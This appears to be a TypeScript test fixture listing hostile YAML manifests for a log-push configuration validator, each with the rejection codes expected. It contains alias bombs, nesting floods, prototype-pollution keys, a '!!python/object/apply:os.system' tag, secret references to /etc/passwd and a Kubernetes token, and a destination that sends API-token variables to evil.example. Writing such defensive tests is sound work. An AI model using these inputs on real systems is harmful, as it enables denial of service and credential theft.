/**
 * Manifests that an attacker, or a tired person, could merge: one entry a variant, each with its row of the
 * hostile-input catalogue. Every one must be refused with the codes beside it, or be harmless.
 */

import { aCanary } from '../canaries.ts';

export interface HostileManifest {
  /** Of the catalogue, as in `H01`. */
  readonly row: string;
  readonly what: string;
  readonly content: string | Uint8Array;
  /** Codes that are among the findings; none: it is accepted, and means what it says. */
  readonly codes: readonly string[];
  /** Part of the message when the files cannot even be read: nothing is parsed then. */
  readonly unreadable?: RegExp;
}

/** Stands where a secret was pasted; must be in no output. */
export const PASTED = aCanary('pasted into a hostile manifest');

const CONF = 's3://acme-logs/{DATE}?region=us-west-2';
const JOB_LINES = `version: 1
zones:
  - zone: ZONE
    jobs:
      - name: a
        dataset: http_requests
        enabled: true
`;

/** A manifest with one good job, and these lines in it. */
function job(lines: string, destination = `destination_conf: '${CONF}'`): string {
  const all = [destination, ...lines.split('\n')].filter((line) => line !== '');
  return JOB_LINES + all.map((line) => `        ${line}\n`).join('');
}

function extra(lines: string): string {
  return job(`extra:\n  ${lines.replaceAll('\n', '\n  ')}`);
}

const named = (name: string): string => job('').replace('name: a', `name: ${name}`);
const utf16 = (text: string): Uint8Array =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const bytes = (...parts: readonly (string | readonly number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from([...part]))));

const LETTERS = [...'abcdefghi'];
const BOMB = LETTERS.map((letter, index) => {
  const inside = index === 0 ? 'lol' : `*${LETTERS[index - 1] ?? ''}`;
  return `${letter}: &${letter} [${Array.from({ length: 9 }, () => inside).join(', ')}]`;
}).join('\n');
const flood = (keys: number): string => Array.from({ length: keys }, (_, n) => `k${n}: 1`).join('\n');
const { core } = PASTED;

type Row = readonly [
  row: string,
  what: string,
  content: string | Uint8Array,
  codes: readonly string[] | RegExp,
];

const ROWS: readonly Row[] = [
  ['H01', 'an alias bomb, 9 levels of 9', extra(BOMB), ['too-many-nodes']],
  [
    'H01',
    'an alias bomb of mappings',
    extra(
      BOMB.replaceAll(
        /\[(.*)\]/g,
        (_, list: string) =>
          `{ ${list
            .split(', ')
            .map((one, n) => `k${n}: ${one}`)
            .join(', ')} }`,
      ),
    ),
    ['too-many-nodes'],
  ],
  [
    'H01',
    'an alias bomb of merges',
    `version: 1\npresets:\n  a: &a {k0: 1}\n  b: {<<: [${'*a, '.repeat(300_000)}]}\n`,
    ['bad-merge', 'too-many-nodes'],
  ],
  ['H02', 'an alias to what it stands in', extra('x: &x { y: *x }'), ['cyclic-alias']],
  ['H02', 'an alias to the whole document', `&doc\n${extra('x: *doc')}`, ['cyclic-alias']],
  [
    'H03',
    '40,000 keys',
    extra('x: 1').replace('version: 1\n', `version: 1\n${flood(40_000)}\n`),
    ['unknown-key', 'too-many-problems'],
  ],
  [
    'H03',
    '40,000 equal keys',
    `version: 1\n${'k: 1\n'.repeat(40_000)}`,
    ['duplicate-key', 'too-many-problems'],
  ],
  ['H04', '5,000 brackets', extra(`x: ${'['.repeat(5_000)}`), ['too-deep']],
  ['H04', '100,000 brackets, closed', extra(`x: ${'['.repeat(100_000)}${']'.repeat(100_000)}`), ['too-deep']],
  ['H04', '100,000 braces', extra(`x: ${'{a: '.repeat(100_000)}`), ['too-deep']],
  ['H04', '100,000 dashes', `version: 1\nzones:\n  ${'- '.repeat(100_000)}\n`, ['too-deep']],
  [
    'H04',
    'a filter of 100,000 brackets in a text',
    job(`filter: '{"where":${'['.repeat(100_000)}${']'.repeat(100_000)}}'`),
    ['bad-filter'],
  ],
  ['H05', 'a file of 17 MiB', `# ${'x'.repeat(17 * 1_048_576)}\n`, /is larger than 16777216 bytes/],
  ['H05', 'a name of 900,000 characters', named('x'.repeat(900_000)), ['too-long']],
  [
    'H05',
    'a destination of 900,000 characters',
    job('', `destination_conf: '${CONF}&x=${'x'.repeat(900_000)}'`),
    ['bad-destination'],
  ],
  [
    'H05',
    '200,000 parameters of a destination',
    job('', `destination_conf: '${CONF}${'&a=b'.repeat(200_000)}'`),
    ['bad-destination'],
  ],
  ['H05', '10,000 documents', '---\nversion: 1\n'.repeat(10_000), ['too-many-documents']],
  ['H06', 'a key with quotes and without', job('"kind": edge\nkind: edge'), ['duplicate-key']],
  ['H06', 'a key as text and as escape', job('"\\x6bind": edge\nkind: edge'), ['duplicate-key']],
  ['H06', '1 and "1"', extra('1: a\n"1": b'), ['bad-key']],
  [
    'H06',
    'a name composed and decomposed',
    'version: 1\npresets:\n  "caf\u00e9": { dataset: dns_logs }\n  "cafe\u0301": { dataset: dns_logs }\n',
    ['bad-name'],
  ],
  ['H07', 'a merge of a number', job('<<: 1'), ['bad-merge']],
  [
    'H07',
    'a merge with __proto__ inside',
    extra('x: &x { __proto__: { polluted: true } }\ny: { <<: *x }'),
    ['unsafe-key'],
  ],
  ['H07', 'two merges', extra('x: &x { a: 1 }\ny: { <<: *x, <<: *x }'), ['duplicate-key']],
  ['H08', '%YAML 1.1, in which "no" is false', `%YAML 1.1\n---\n${job('')}`, ['unsupported-directive']],
  ['H08', '%TAG', `%TAG ! tag:evil.example,2000:\n---\n${job('')}`, ['unsupported-directive']],
  ['H08', 'an unknown directive', `%SECRET ${core}\n---\n${job('')}`, ['unsupported-directive']],
  ...['no', 'off', 'y', 'on', 'Yes', 'NO'].map((word): Row => [
    'H09',
    `${word} for a boolean`,
    job('').replace('enabled: true', `enabled: ${word}`),
    ['wrong-type'],
  ]),
  ...['~', 'null', 'Null'].map((word): Row => ['H09', `${word} for a name`, named(word), ['wrong-type']]),
  ['H09', 'TRUE for a name', named('TRUE'), ['wrong-type']],
  ...['010', '0o10', '0x10', '+5000000', '1e7', '.5', '5000000.'].map((number): Row => [
    'H10',
    `the number ${number}`,
    job(`max_upload_bytes: ${number}`),
    ['bad-number'],
  ]),
  ...['1_000', '12:30:45', '0b1'].map((number): Row => [
    'H10',
    `${number}, which is a text`,
    job(`max_upload_bytes: ${number}`),
    ['wrong-type'],
  ]),
  ...['.nan', '.inf', '-.INF', '-0', '1e400', '12345678901234567890', '9007199254740993'].map(
    (number): Row => ['H11', `the number ${number}`, job(`max_upload_bytes: ${number}`), ['bad-number']],
  ),
  ['H11', 'an id of 20 digits', job('id: 12345678901234567890'), ['bad-number']],
  ['H12', 'a date for a name', named('2024-01-01'), []],
  ...[
    '!!js/function',
    '!!js/regexp',
    '!!python/object/apply:os.system',
    '!!binary',
    '!!set',
    '!!timestamp',
    '!!str',
    '!foo',
    '!<tag:evil.example,2000:x>',
  ].map((tag): Row => ['H13', `the tag ${tag}`, named(`${tag} a`), ['unsupported-tag']]),
  ...['[a, b]', '{ a: b }', 'null', 'true', '1', '1.5', '~'].map((key): Row => [
    'H14',
    `the key ${key}`,
    extra(`? ${key}\n: x`),
    ['bad-key'],
  ]),
  ['H15', 'a byte order mark at the start', `\uFEFF${job('')}`, []],
  ['H15', 'a byte order mark further on', named('a\uFEFFb'), ['unsafe-character']],
  ['H15', 'UTF-16', utf16(job('')), /is not UTF-8 text/],
  ['H15', 'UTF-16 without its mark', Buffer.from(job(''), 'utf16le'), ['unsafe-character']],
  ['H15', 'a byte that is no UTF-8', bytes(named('"a'), [0xff], '"'), /is not UTF-8 text/],
  ['H15', 'an overlong slash', bytes(named('"a'), [0xc0, 0xaf], '"'), /is not UTF-8 text/],
  ['H15', 'a lone surrogate as CESU-8', bytes(named('"a'), [0xed, 0xa0, 0x80], '"'), /is not UTF-8 text/],
  ['H15', 'a lone surrogate as an escape', named('"a\\ud800"'), ['unsafe-character']],
  ...['\0', '\u0007', '\u001B', '\u007F', '\u009B', '\uFFFE'].map((one): Row => [
    'H16',
    `U+${one.charCodeAt(0).toString(16)} in a name`,
    named(`"a${one}b"`),
    ['unsafe-character'],
  ]),
  ...['\\0', '\\e', '\\x7f', '\\u009b', '\\u0085', '\\u2028', '\\u2029', '\\n', '\\r'].map((one): Row => [
    'H16',
    `${one} in a name`,
    named(`"a${one}b"`),
    ['unsafe-character'],
  ]),
  ['H16', 'U+2028 in a key', extra('"a\u2028b": 1'), ['unsafe-key']],
  [
    'H16',
    'a line end in a destination',
    job('', 'destination_conf: "s3://b/x\\ny?region=r"'),
    ['bad-destination'],
  ],
  ['H16', 'NUL in a destination', job('', 'destination_conf: "s3://b/x\\0y?region=r"'), ['bad-destination']],
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then'].flatMap(
    (key): Row[] => [
      ['H17', `${key} at the top`, `version: 1\n${key}: { polluted: true }\n`, ['unsafe-key']],
      ['H17', `${key} in a job`, extra(`${key}: { polluted: true }`), ['unsafe-key']],
      [
        'H17',
        `${key} as a preset`,
        `version: 1\npresets: { ${key}: { dataset: dns_logs } }\n`,
        ['unsafe-key'],
      ],
    ],
  ),
  [
    'H17',
    '__proto__ in a filter of text',
    job(`filter: '{"where":{"key":"a","operator":"eq","value":1},"__proto__":{"polluted":true}}'`),
    ['bad-filter'],
  ],
  ['H17', 'constructor for a preset that is used', job('preset: constructor'), ['unknown-preset']],
  [
    'H17',
    '__proto__ for a destination that is used',
    job('', 'destination: __proto__'),
    ['unknown-destination'],
  ],
  ['H18', 'a comment of 8 MB', `${job('')}# ${'x'.repeat(8_000_000)}\n`, []],
  ['H18', 'an anchor of 900,000 characters', extra(`x: &${'a'.repeat(900_000)} 1`), []],
  ['H18', 'a tag of 900,000 characters', extra(`x: !${'a'.repeat(900_000)} 1`), ['unsupported-tag']],
  ['H18', '150,000 anchors', '&a '.repeat(150_000), ['bad-yaml']],
  ['H18', '150,000 values side by side', '[]\n'.repeat(150_000), ['bad-yaml']],
  [
    'H18',
    '300,000 braces in a template',
    job(`output_options: { record_template: '${'{{'.repeat(150_000)}' }`),
    [],
  ],
  ['H19', 'garbage after the end', `${job('')}...\n}garbage{\n`, ['bad-yaml']],
  ['H19', 'a second document that is no manifest', `${job('')}---\n- 1\n`, ['wrong-type']],
  [
    'H19',
    'a template of Helm',
    'version: 1\n{{- if .Values.enabled }}\nzones: []\n{{- end }}\n',
    ['bad-yaml'],
  ],
  ['H19', 'a value of Helm', named('{{ .Values.name }}'), ['bad-key']],
  [
    'H19',
    'a template of Jinja',
    'version: 1\n{% for zone in zones %}\nzones: []\n{% endfor %}\n',
    ['bad-yaml'],
  ],
  ['H19', 'a merge conflict', `<<<<<<< HEAD\n${job('')}=======\n>>>>>>> other\n`, ['bad-yaml']],
  ['H20', 'JSON with comments', '{ "version": 1, // one\n "zones": [] }', ['unknown-key']],
  ['H20', 'JSON with a key twice', '{ "version": 1, "zones": [], "zones": [] }', ['duplicate-key']],
  [
    'H20',
    'JSON with an escaped NUL',
    '{ "version": 1, "zones": [{ "zone": "example.com", "jobs": [{ "name": "a\\u0000", "dataset": "x", "destination_conf": "s3://b?region=r" }] }] }',
    ['unsafe-character'],
  ],
  ...['$ref', '$schema', '$id', '$dynamicRef'].map((key): Row => [
    'H21',
    `${key} at the top`,
    `version: 1\n${key}: http://127.0.0.1:1/schema.json\n`,
    ['unknown-key'],
  ]),
  ['H21', '$ref in a job', job('$ref: file:///etc/passwd'), ['unknown-key']],
  [
    'H22',
    'a pattern that is slow in a backtracking matcher',
    `version: 1\nzones:\n  - select: { name: '${'*a'.repeat(120)}' }\n    jobs: []\n`,
    [],
  ],
  ...['\\n', '\\r', '\\t', '\\0'].flatMap((one): Row[] => [
    ['H23', `${one} in the name of a zone`, job('').replace('ZONE', `"example${one}.com"`), ['bad-scope']],
    ['H23', `${one} in a dataset`, job('').replace('http_requests', `"http${one}requests"`), ['bad-dataset']],
    ['H23', `${one} in a key`, extra(`"a${one}b": 1`), ['unsafe-key']],
  ]),
  ...['\u202E', '\u2066', '\u200B', '\uFE0F', '\u{E0041}'].flatMap((one): Row[] => [
    [
      'H24',
      `U+${(one.codePointAt(0) ?? 0).toString(16)} in a name`,
      named(`"a${one}b"`),
      ['unsafe-character'],
    ],
    ['H24', `U+${(one.codePointAt(0) ?? 0).toString(16)} in a key`, extra(`"a${one}b": 1`), ['unsafe-key']],
  ]),
  ['H25', 'a key with a Cyrillic letter', job('').replace('enabled', '\u0435nabled'), ['unknown-key']],
  [
    'H25',
    'a preset with a Cyrillic letter',
    'version: 1\npresets: { "\u0430dmin": { dataset: dns_logs } }\n',
    ['bad-name'],
  ],
  ['H27', 'a name of 513 characters', named('x'.repeat(513)), ['too-long']],
  ['H27', 'a name of 512 characters', named('x'.repeat(512)), []],
  [
    'H36',
    'a syntax error on the line of a secret',
    job('', `destination_conf: "https://h.example?header_Authorization=${core}`),
    ['bad-yaml'],
  ],
  ['H36', 'a tab before a secret', `${job('')}\tdestination_conf: ${core}\n`, ['bad-yaml']],
  ['H36', 'a colon after a secret', job('', `destination_conf: ${core}: x`), ['bad-yaml']],
  ['H36', 'a bad escape before a secret', job('', `destination_conf: "\\q${core}"`), ['bad-yaml']],
  [
    'H37',
    'a key in a destination',
    job(
      '',
      `destination_conf: 's3://b?region=r&endpoint=e.example&access-key-id=${core}&secret-access-key=${core}'`,
    ),
    ['inline-secret'],
  ],
  [
    'H37',
    'a key in the parts of a destination',
    job(
      '',
      `destination: { type: r2, bucket: b, account_id: ${'0'.repeat(32)}, access_key_id: ${core}, secret_access_key: ${core} }`,
    ),
    ['inline-secret'],
  ],
  [
    'H37',
    'a header',
    job('', `destination: { type: https, url: 'https://h.example', headers: { Authorization: ${core} } }`),
    ['inline-secret'],
  ],
  ['H38', 'a secret as a key', job(`${core}: x`), ['unknown-key']],
  [
    'H38',
    'a secret as a key of a destination',
    job('', `destination: { type: s3, bucket: b, region: r, ${core}: x }`),
    ['unknown-key'],
  ],
  ['H38', 'a secret as a zone', job('').replace('ZONE', core), ['bad-scope']],
  ['H38', 'a secret as an anchor', extra(`x: *${core}`), ['bad-alias']],
  ['H38', 'a secret as a tag', extra(`x: !${core} 1`), ['unsupported-tag']],
  [
    'H38',
    'a secret in a comment beside an error',
    `${job('')}# ${core}\nnonsense: 1 # ${core}\n`,
    ['unknown-key'],
  ],
  ['H39', 'a destination that is no URL', job('', `destination_conf: '${core}'`), ['bad-destination']],
  [
    'H39',
    'a URL that cannot be read',
    job('', `destination: { type: https, url: 'https://h.example:port/${core}' }`),
    [],
  ],
  [
    'H40',
    'a password in a URL',
    job('', `destination_conf: 'https://u:${core}@h.example/in'`),
    ['inline-secret'],
  ],
  [
    'H40',
    'a password in the URL of a destination',
    job('', `destination: { type: https, url: 'https://u:${core}@h.example/in' }`),
    ['inline-secret'],
  ],
  ...[
    '../../etc/passwd',
    '/etc/passwd',
    '..%2fx',
    'a\\b',
    '~',
    '/proc/self/environ',
    '/var/run/secrets/kubernetes.io/serviceaccount/token',
    '',
    'a b',
  ].map((name): Row => [
    'H49',
    `the secret ${JSON.stringify(name)}`,
    job('', `destination_conf: 's3://b?region=r&x=\${secret:${name}}'`),
    ['bad-reference'],
  ]),
  ['H55', 'an include', 'version: 1\ninclude: ["**/../../*.yaml"]\n', ['unknown-key']],
  ...[
    'CLOUDFLARE_API_TOKEN',
    'CLOUDFLARE_API_TOKEN_FILE',
    'CLOUDFLARE_API_KEY',
    'cloudflare_api_token',
    'LOGPUSHD_HTTP_TOKEN',
    'HTTPS_PROXY',
    'all_proxy',
  ].map((name): Row => [
    'H56',
    `the variable ${name}`,
    job('', `destination_conf: 'https://evil.example/in?header_X=\${env:${name}}'`),
    ['forbidden-reference'],
  ]),
  [
    'H56',
    'a reference in a reference',
    job('', "destination_conf: 's3://b?region=r&x=${secret:${env:HOME}}'"),
    ['bad-reference'],
  ],
  [
    'H56',
    'a secret in a field that plans show',
    job('filter: \'{"where":{"key":"a","operator":"eq","value":"${secret:key}"}}\''),
    ['secret-in-plain-field'],
  ],
  ['H56', 'a secret in a name', named('${secret:key}'), ['secret-in-plain-field']],
];

/** Each about a zone of its own, so that all of them can stand in one folder. */
export const HOSTILE_MANIFESTS: readonly HostileManifest[] = ROWS.map(
  ([row, what, content, codes], index) => ({
    row,
    what,
    content: typeof content === 'string' ? content.replace('ZONE', `z${index}.example`) : content,
    codes: codes instanceof RegExp ? [] : codes,
    ...(codes instanceof RegExp && { unreadable: codes }),
  }),
);
